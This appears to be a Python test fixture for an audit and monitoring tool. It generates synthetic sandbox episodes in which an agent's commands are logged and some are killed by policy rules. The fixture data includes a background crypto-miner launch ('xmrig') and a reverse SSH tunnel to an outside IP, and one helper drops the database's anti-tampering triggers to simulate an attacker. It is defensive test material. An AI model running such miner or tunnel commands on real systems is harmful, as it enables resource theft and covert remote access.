"""Builders for audit tests: a realistic episode written through the recorder API."""

from __future__ import annotations

import shutil
import sqlite3
from pathlib import Path

from bastion import Action, Event, EventKind, Policy, Severity, Verdict
from bastion.audit import AuditTrail, TrailConfig

RUN = "run-1"


def episode_events(run: str, episode: str, session: str, policy: Policy, calls: int = 4
                   ) -> list[Event | Verdict]:
    """The records one session of an episode produces, in order: lifecycle, commands,
    a process tree per call, connections, verdicts and actions."""
    out: list[Event | Verdict] = []

    def ev(kind: EventKind, step: int | None = None, pid: int | None = None,
           ppid: int | None = None, **fields: object) -> Event:
        return Event(kind, session_id=session, run_id=run, episode_id=episode, step=step,
                     call_id=None if step is None else f"c{step}", pid=pid, ppid=ppid,
                     fields=fields)

    out.append(ev(EventKind.LIFECYCLE, **{"life.state": "created"}, policy=policy.name,
                  policy_hash=policy.hash))
    for step in range(calls):
        cmd = ["ls -la", "pip install requests", "nohup ./xmrig -o pool:3333 &",
               "ssh -R 9000:localhost:22 203.0.113.5"][step % 4]
        shell, child = 1000 + 10 * step, 1001 + 10 * step
        out.append(ev(EventKind.LIFECYCLE, step, **{"life.state": "call_start", "cmd.raw": cmd}))
        out.append(ev(EventKind.COMMAND, step, **{"cmd.raw": cmd}))
        out.append(ev(EventKind.EXEC, step, shell, 1, **{"proc.name": "bash",
                                                          "proc.cmdline": f"bash -c {cmd}"}))
        out.append(ev(EventKind.FORK, step, child, shell, **{"proc.name": "bash"}))
        prog = cmd.split()[0].lstrip("./") if not cmd.startswith("nohup") else "xmrig"
        out.append(ev(EventKind.EXEC, step, child, shell, **{"proc.name": prog,
                                                              "proc.cmdline": cmd}))
        out.append(ev(EventKind.FORK, step, child + 1, child, **{"proc.name": prog}))
        out.append(ev(EventKind.NET_CONNECT, step, child, **{
            "net.dst_ip": "203.0.113.5", "net.dst_port": 3333 if step % 4 == 2 else 443,
            "net.app": "stratum" if step % 4 == 2 else "tls",
            "net.decision": "deny" if step % 4 >= 2 else "allow"}))
        out.append(ev(EventKind.DNS_QUERY, step, child, **{"dns.name": "pool.example.com",
                                                           "dns.type": "A",
                                                           "dns.decision": "deny"}))
        if step % 4 >= 2:
            severity = Severity.CRITICAL if step % 4 == 2 else Severity.HIGH
            rule = "mining.stratum" if step % 4 == 2 else "tunnels.ssh_reverse"
            out.append(Verdict(rule, severity, f"{rule} seen", action=Action.KILL,
                               policy_hash=policy.hash, session_id=session, run_id=run,
                               episode_id=episode, step=step, call_id=f"c{step}", pid=child))
            out.append(ev(EventKind.ACTION, step, **{"action.name": "kill",
                                                     "action.target": f"pid {child}",
                                                     "action.rule": rule}))
        out.append(ev(EventKind.EXIT, step, child, shell, **{"proc.exit_code": 0}))
        out.append(ev(EventKind.LIFECYCLE, step, **{"life.state": "call_end",
                                                    "outcome": "killed" if step % 4 >= 2
                                                    else "ok", "proc.exit_code": 0}))
    out.append(ev(EventKind.LIFECYCLE, **{"life.state": "closing"}))
    return out


def build_log(state: Path, run: str = RUN, *, episodes: int = 2, calls: int = 4,
              checkpoint_every: int = 25) -> list[int]:
    """Write a run's log; returns the acknowledged positions."""
    policy = Policy.default()
    acked = []
    with AuditTrail(state, run, config=TrailConfig(checkpoint_every=checkpoint_every)) as trail:
        acked.append(trail.append_policy(policy))
        for n in range(episodes):
            for item in episode_events(run, f"ep-{n}", f"s-{n}", policy, calls):
                if isinstance(item, Verdict):
                    acked.append(trail.append_verdict(item))
                else:
                    acked.append(trail.append_event(item))
    return acked


def db(state: Path, run: str = RUN) -> sqlite3.Connection:
    """The run database as an attacker with write access sees it: triggers dropped."""
    conn = sqlite3.connect(state / "audit" / f"{run}.db", isolation_level=None)
    conn.execute("DROP TRIGGER IF EXISTS records_no_update")
    conn.execute("DROP TRIGGER IF EXISTS records_no_delete")
    return conn


def wipe(path: Path) -> None:
    shutil.rmtree(path, ignore_errors=True)
